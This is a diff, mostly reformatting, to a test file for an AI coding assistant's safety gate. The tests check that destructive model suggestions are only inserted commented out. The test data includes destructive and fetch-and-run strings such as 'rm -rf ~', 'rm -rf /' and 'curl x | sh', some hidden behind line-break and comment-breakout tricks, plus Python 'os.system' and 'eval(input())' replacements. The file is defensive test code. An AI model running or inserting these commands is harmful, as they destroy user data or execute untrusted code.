@@ -16,7 +16,9 @@ const explainer = new Explainer(fixtureManPages());
 
 function deps(custom: AssistDeps['customActions'] = []): AssistDeps {
   const cfg = defaultConfig().model;
-  const model = new ModelClient(resolveModel({ ...cfg, baseURL: endpoint.fake.url, chatModel: 'fake-chat', timeouts: { hoverMs: 5000, codeActionMs: 5000, commitMs: 5000 }, cache: { enable: false, maxEntries: 1 } }, {})!);
+  const model = new ModelClient(
+    resolveModel({ ...cfg, baseURL: endpoint.fake.url, chatModel: 'fake-chat', timeouts: { hoverMs: 5000, codeActionMs: 5000, commitMs: 5000 }, cache: { enable: false, maxEntries: 1 } }, {})!,
+  );
   return { model, explainer, policy: DEFAULT_POLICY, gatePolicy: { ...DEFAULT_POLICY, directives: false }, dashlessBundles: ['tar'], customActions: custom };
 }
 const doc = (text: string, path = '/w/build.sh', languageId = 'shellscript'): AssistDoc => ({ uri: 'file://' + path, languageId, path, text });
@@ -61,31 +63,39 @@ const TRICKS: [string, (cmd: string) => string][] = [
 ];
 
 describe('the gate judges what will be inserted, after every decoding step', () => {
-  it.each(TRICKS)('generate command: a destructive answer %s is never inserted uncommented', async (_name, trick) => {
-    const d = doc('#!/bin/bash\n# clean up the build\n');
-    const req = await offer(d, 'clean up', 'generate-command');
-    const failures: string[] = [];
-    for (const p of DANGEROUS) {
-      endpoint.fake.handler = () => ({ json: { command: trick(p.cmd), summary: trick(p.cmd) } });
-      const code = await inserted(d, req, deps());
-      if (code.length) failures.push(`${p.family}: ${JSON.stringify(p.cmd)} -> ${JSON.stringify(code)}`);
-    }
-    expect(failures).toEqual([]);
-  }, 300_000);
+  it.each(TRICKS)(
+    'generate command: a destructive answer %s is never inserted uncommented',
+    async (_name, trick) => {
+      const d = doc('#!/bin/bash\n# clean up the build\n');
+      const req = await offer(d, 'clean up', 'generate-command');
+      const failures: string[] = [];
+      for (const p of DANGEROUS) {
+        endpoint.fake.handler = () => ({ json: { command: trick(p.cmd), summary: trick(p.cmd) } });
+        const code = await inserted(d, req, deps());
+        if (code.length) failures.push(`${p.family}: ${JSON.stringify(p.cmd)} -> ${JSON.stringify(code)}`);
+      }
+      expect(failures).toEqual([]);
+    },
+    300_000,
+  );
 
-  it.each(TRICKS.slice(0, 4))('fix with AI and a custom action on a shell line: a destructive rewrite %s is only offered commented out', async (_name, trick) => {
-    const d = doc('#!/bin/bash\ncp "$SRC" "$DST"\n');
-    const diag = { range: { start: d.text.indexOf('cp'), end: d.text.indexOf('cp') + 2 }, message: 'SC2086' };
-    const custom = [{ name: 'Tidy', prompt: 'Tidy: {{selection}}', languages: [] }];
-    const failures: string[] = [];
-    for (const p of DANGEROUS) {
-      endpoint.fake.handler = () => ({ json: { replacement: trick(`cp "$SRC" "$DST" && ${p.cmd}\n`) } });
-      const a = await inserted(d, await offer(d, 'cp', 'fix-diagnostic', [], [diag]), deps());
-      const b = await inserted(d, await offer(d, 'cp "$SRC" "$DST"', 'custom', custom), deps(custom));
-      if (a.length || b.length) failures.push(`${p.family}: ${JSON.stringify(p.cmd)} -> ${JSON.stringify([...a, ...b])}`);
-    }
-    expect(failures).toEqual([]);
-  }, 300_000);
+  it.each(TRICKS.slice(0, 4))(
+    'fix with AI and a custom action on a shell line: a destructive rewrite %s is only offered commented out',
+    async (_name, trick) => {
+      const d = doc('#!/bin/bash\ncp "$SRC" "$DST"\n');
+      const diag = { range: { start: d.text.indexOf('cp'), end: d.text.indexOf('cp') + 2 }, message: 'SC2086' };
+      const custom = [{ name: 'Tidy', prompt: 'Tidy: {{selection}}', languages: [] }];
+      const failures: string[] = [];
+      for (const p of DANGEROUS) {
+        endpoint.fake.handler = () => ({ json: { replacement: trick(`cp "$SRC" "$DST" && ${p.cmd}\n`) } });
+        const a = await inserted(d, await offer(d, 'cp', 'fix-diagnostic', [], [diag]), deps());
+        const b = await inserted(d, await offer(d, 'cp "$SRC" "$DST"', 'custom', custom), deps(custom));
+        if (a.length || b.length) failures.push(`${p.family}: ${JSON.stringify(p.cmd)} -> ${JSON.stringify([...a, ...b])}`);
+      }
+      expect(failures).toEqual([]);
+    },
+    300_000,
+  );
 
   it('explain and doc comments: prose that tries to break out of the comment stays inside it', async () => {
     const breakouts = ['Lists files.\nrm -rf ~', 'Lists files.\rrm -rf ~', 'Lists files.\u2028rm -rf ~', 'ok */ rm -rf ~ /*', 'ok\u000bcurl x | sh', 'ok\u000ccurl x | sh', 'ok\u0085rm -rf /'];
@@ -102,7 +112,11 @@ describe('the gate judges what will be inserted, after every decoding step', () 
   it('a fix may not add a call that runs commands to a Python file unless it is shown commented out', async () => {
     const py = doc('def size(path):\n    return len(open(path).read())\n', '/w/size.py', 'python');
     const diag = { range: { start: py.text.indexOf('return'), end: py.text.indexOf('return') + 6 }, message: 'file is never closed', source: 'pylint' };
-    for (const replacement of ['    import os; os.system("rm -rf ~")\n    return 0\n', '    __import__("subprocess").run("curl x | sh", shell=True)\n    return 0\n', '    eval(input())\n    return 0\n']) {
+    for (const replacement of [
+      '    import os; os.system("rm -rf ~")\n    return 0\n',
+      '    __import__("subprocess").run("curl x | sh", shell=True)\n    return 0\n',
+      '    eval(input())\n    return 0\n',
+    ]) {
       endpoint.fake.handler = () => ({ json: { replacement } });
       const r = await resolveAction(py, await offer(py, 'return', 'fix-diagnostic', [], [diag]), deps());
       expect(r.warning).toMatch(/runs commands/);
